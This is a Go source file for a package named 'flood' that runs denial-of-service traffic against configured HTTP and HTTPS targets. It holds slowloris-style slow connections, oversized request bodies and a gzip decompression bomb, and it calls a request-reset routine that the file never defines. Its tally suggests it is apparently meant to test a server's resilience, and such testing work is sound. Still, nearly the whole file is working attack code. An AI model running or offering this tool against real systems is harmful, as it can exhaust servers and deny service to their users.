// Package flood is a crowd that means harm: who holds connections and says nothing, who
// never reads, who resets what they asked for, who sends more than may be sent. It goes
// on until it is told to end, and knows of no password and no secret.
package flood

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// Target is a listener.
type Target struct {
	Addr string
	TLS  *tls.Config // nil for plain HTTP; with it HTTP/2 too
	Path string      // where posts go to
}

// Flood is what is done to targets.
type Flood struct {
	Targets []Target
	Slow    int // connections of each target that are slow, in thirds: headers, bodies, never reading
	Resets  int // connections of each target with TLS on which requests are reset, a thousand at a time
	Heavy   int // callers of each target who send too long bodies and bombs, one after the other
}

// Tally is what came of it.
type Tally struct {
	Held    atomic.Int64 // slow connections that are open
	Dialled atomic.Int64 // slow connections that were opened
	Resets  atomic.Int64 // requests that were reset
	Refused atomic.Int64 // heavy requests answered 4xx or 5xx
	Cut     atomic.Int64 // heavy requests to which the other side hung up
	Taken   atomic.Int64 // heavy requests answered 2xx, of which there should be none
}

// String is all of it in one line.
func (t *Tally) String() string {
	return fmt.Sprintf("%d slow connections held of %d opened, %d requests reset, %d heavy ones refused, %d cut off and %d taken",
		t.Held.Load(), t.Dialled.Load(), t.Resets.Load(), t.Refused.Load(), t.Cut.Load(), t.Taken.Load())
}

// again is how long who was hung up on waits before the next connection.
const again = 50 * time.Millisecond

// Run floods until ctx ends. Told counts as it goes.
func (f Flood) Run(ctx context.Context, told *Tally) {
	var all sync.WaitGroup
	for _, target := range f.Targets {
		for n := range f.Slow {
			all.Go(func() { over(ctx, func() { target.hold(ctx, n%3, told) }) })
		}
		for range f.Resets {
			if target.TLS != nil {
				all.Go(func() { over(ctx, func() { target.reset(ctx, told) }) })
			}
		}
		for n := range f.Heavy {
			all.Go(func() { target.heavy(ctx, n, told) })
		}
	}
	all.Wait()
}

// over does it over and over.
func over(ctx context.Context, do func()) {
	for ctx.Err() == nil {
		do()
		pause(ctx, again)
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// dial opens a connection that ends with ctx; protocols are those of TLS.
func (t Target) dial(ctx context.Context, protocols ...string) (net.Conn, error) {
	conn, err := (&net.Dialer{Timeout: 10 * time.Second}).DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	if t.TLS == nil {
		return conn, nil
	}
	cfg := t.TLS.Clone()
	cfg.NextProtos = protocols
	cfg.ServerName, _, _ = net.SplitHostPort(t.Addr)
	over := tls.Client(conn, cfg)
	if err := over.HandshakeContext(ctx); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return over, nil
}

// The ways of being slow.
const (
	headers = iota // a byte of a header now and then, and never the last
	bodies         // a byte of a body now and then
	deaf           // asks for the same again and again, and reads nothing
)

// hold keeps one connection until the other side has had enough.
func (t Target) hold(ctx context.Context, way int, told *Tally) {
	conn, err := t.dial(ctx, "http/1.1")
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	told.Dialled.Add(1)
	told.Held.Add(1)
	defer told.Held.Add(-1)
	first, then := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nX-Slow: ", t.Path), "x"
	switch way {
	case bodies:
		first = fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{", t.Path)
	case deaf:
		first, then = "", "GET / HTTP/1.1\r\nHost: x\r\n\r\n"
	}
	if _, err := io.WriteString(conn, first); err != nil {
		return
	}
	gone := make(chan struct{})
	if way != deaf {
		go func() { defer close(gone); _, _ = io.Copy(io.Discard, conn) }()
	}
	for ctx.Err() == nil {
		if _, err := io.WriteString(conn, then); err != nil {
			return
		}
		select {
		case <-gone:
			return
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
	}
}

const (
	tooLong = 64 << 20
	bomb    = 256 << 20 // unpacked
)

// heavy sends bodies that are too long, with and without saying so, and small ones that
// unpack to too much.
func (t Target) heavy(ctx context.Context, first int, told *Tally) {
	scheme := "http"
	if t.TLS != nil {
		scheme = "https"
	}
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: t.TLS, DisableKeepAlives: true}}
	packed := Bomb()
	for n := first; ctx.Err() == nil; n++ {
		var body io.Reader = io.LimitReader(spaces{}, tooLong)
		if n%3 == 2 {
			body = bytes.NewReader(packed)
		}
		r, err := http.NewRequestWithContext(ctx, http.MethodPost, scheme+"://"+t.Addr+t.Path, body)
		if err != nil {
			return
		}
		r.Header.Set("Content-Type", "application/json")
		switch n % 3 {
		case 0:
			r.ContentLength = tooLong
		case 2:
			r.Header.Set("Content-Encoding", "gzip")
		}
		resp, err := client.Do(r)
		switch {
		case ctx.Err() != nil:
			return
		case err != nil:
			told.Cut.Add(1)
		case resp.StatusCode < http.StatusMultipleChoices:
			told.Taken.Add(1)
		default:
			told.Refused.Add(1)
		}
		if err == nil {
			_ = resp.Body.Close()
		}
		pause(ctx, again)
	}
}

// Bomb is a body that is small and unpacks to a quarter of a gigabyte.
var Bomb = sync.OnceValue(func() []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = io.CopyN(w, spaces{}, bomb) // into memory, which never fails
	_ = w.Close()
	return out.Bytes()
})

// spaces are without end.
type spaces struct{}

func (spaces) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = ' '
	}
	return len(b), nil
}
